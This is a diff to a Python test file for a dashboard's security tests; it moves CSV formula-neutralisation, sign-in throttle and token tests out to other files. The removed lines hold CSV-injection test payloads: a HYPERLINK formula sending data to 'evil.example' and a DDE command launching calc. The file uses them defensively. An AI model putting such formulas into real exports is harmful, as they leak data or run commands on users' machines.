@@ -9,7 +9,6 @@ import csv
 import io
 import json
 import os
-import re
 import sqlite3
 import threading
 import time
@@ -19,12 +18,13 @@ import pandas as pd
 import pytest
 from streamlit.testing.v1 import AppTest
 
-from core import cli, config, jobs, safecsv, signin
+from core import cli, config, jobs, safecsv
 from core.llm import LLMSettings
 from core.loopback import LoopbackServer
 from core.profile import export_profiles
 from core.records import Dataset, ImportBatch, Judge, Label, Sample
 from core.store import RestoreError, Store, check_export, export_store, restore_store
+from tests.test_safecsv import FORMULAS
 
 ROOT = Path(__file__).resolve().parents[1]
 APP = str(ROOT / "dashboard" / "app.py")
@@ -110,9 +110,8 @@ def test_the_configured_server_still_gets_the_key(tmp_path, key_env):
 
 
 # ---------------------------------------------------------------- 2. formula cells in every CSV
+# (core.safecsv's own tests, and the check that every CSV writer goes through it: tests/test_safecsv.py)
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-            "\tTAB=1", "\r=1"]
 
 
 def _cells(text: str) -> list[str]:
@@ -131,13 +130,6 @@ def _assert_inert(text: str) -> None:
     """No cell a spreadsheet would run: only numbers may start with "-" or "+"."""
     for cell in _cells(text):
         assert not cell.startswith(safecsv.FORMULA_LEADS) or _number(cell), repr(cell)
-
-
-@pytest.mark.parametrize("value", FORMULAS)
-def test_safe_cell_neutralises_each_leading_character(value):
-    out = safecsv.safe_cell(value)
-    assert out == "'" + value
-    assert safecsv.safe_cell("plain judge") == "plain judge" and safecsv.safe_cell(-0.25) == -0.25
 
 
 def _hostile_store(path: Path) -> tuple[Store, list[str]]:
@@ -195,39 +187,8 @@ def test_every_csv_download_of_the_dashboard_is_inert(hostile_store):
     assert "disableDataExport = true" in toml
 
 
-def test_no_csv_is_written_around_safecsv():
-    """Every CSV writer goes through core.safecsv (a new one would bypass the neutralising)."""
-    offenders = []
-    for folder in ("core", "dashboard", "pages"):
-        for p in (ROOT / folder).glob("*.py"):
-            if p.name == "safecsv.py":
-                continue
-            text = p.read_text()
-            if re.search(r"(?<!safecsv)\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
-                offenders.append(p.name)
-    assert not offenders, offenders
-
-
 # ---------------------------------------------------------------- 3. guessing the password
-
-
-def test_throttle_delays_grow_and_lock_out_one_address():
-    now = [1000.0]
-    t = signin.Throttle(per_client=3, overall=100, window_s=60, clock=lambda: now[0])
-    delays = [t.failure("1.2.3.4") for _ in range(3)]
-    assert delays == sorted(delays) and delays[0] < delays[-1]
-    assert t.locked_for("1.2.3.4") == pytest.approx(60)
-    assert t.locked_for("5.6.7.8") == 0  # another address is not locked out by this one
-    now[0] += 61
-    assert t.locked_for("1.2.3.4") == 0  # the window passed
-
-
-def test_throttle_counts_all_addresses_together():
-    now = [0.0]
-    t = signin.Throttle(per_client=100, overall=5, window_s=30, clock=lambda: now[0])
-    for i in range(5):
-        t.failure(f"10.0.0.{i}")
-    assert t.locked_for("10.0.0.99") > 0  # a distributed guess gets no more tries than one client
+# (core.signin's throttle and token on their own: tests/test_signin.py)
 
 
 @pytest.fixture
@@ -268,24 +229,6 @@ def test_a_right_password_before_the_lockout_signs_in_and_resets_the_address(thr
     assert "Wrong password." in _attempt("nope")
     shown = _attempt("viewer-pass-123")
     assert "Sign in" not in shown
-
-
-def test_the_sign_in_token_is_signed_bounded_and_holds_no_password(monkeypatch):
-    monkeypatch.setenv(signin.SECRET_ENV, "a-long-operator-secret")
-    tok = signin.make_token("ann", "editor", password="pw-view", editor_password="pw-edit", now=1000, ttl=60)
-    assert "pw-view" not in tok and "pw-edit" not in tok
-    assert signin.read_token(tok, password="pw-view", editor_password="pw-edit", now=1010) == ("ann", "editor")
-    assert signin.read_token(tok, password="pw-view", editor_password="pw-edit", now=1061) is None  # expired
-    assert signin.read_token(tok, password="changed", editor_password="pw-edit", now=1010) is None  # new password
-    payload, sig = tok.split(".")
-    forged = signin.make_token("ann", "viewer", password="pw-view", editor_password="pw-edit", now=1000, ttl=60)
-    assert signin.read_token(forged.split(".")[0] + "." + sig, password="pw-view", editor_password="pw-edit",
-                             now=1010) is None  # a payload with another's signature
-    monkeypatch.setenv(signin.SECRET_ENV, "another-secret")
-    assert signin.read_token(tok, password="pw-view", editor_password="pw-edit", now=1010) is None
-    monkeypatch.setenv(signin.SECRET_ENV, "a-long-operator-secret")
-    signin.revoke(tok)
-    assert signin.read_token(tok, password="pw-view", editor_password="pw-edit", now=1010) is None  # signed out
 
 
 # ---------------------------------------------------------------- 4. restore checks the shape
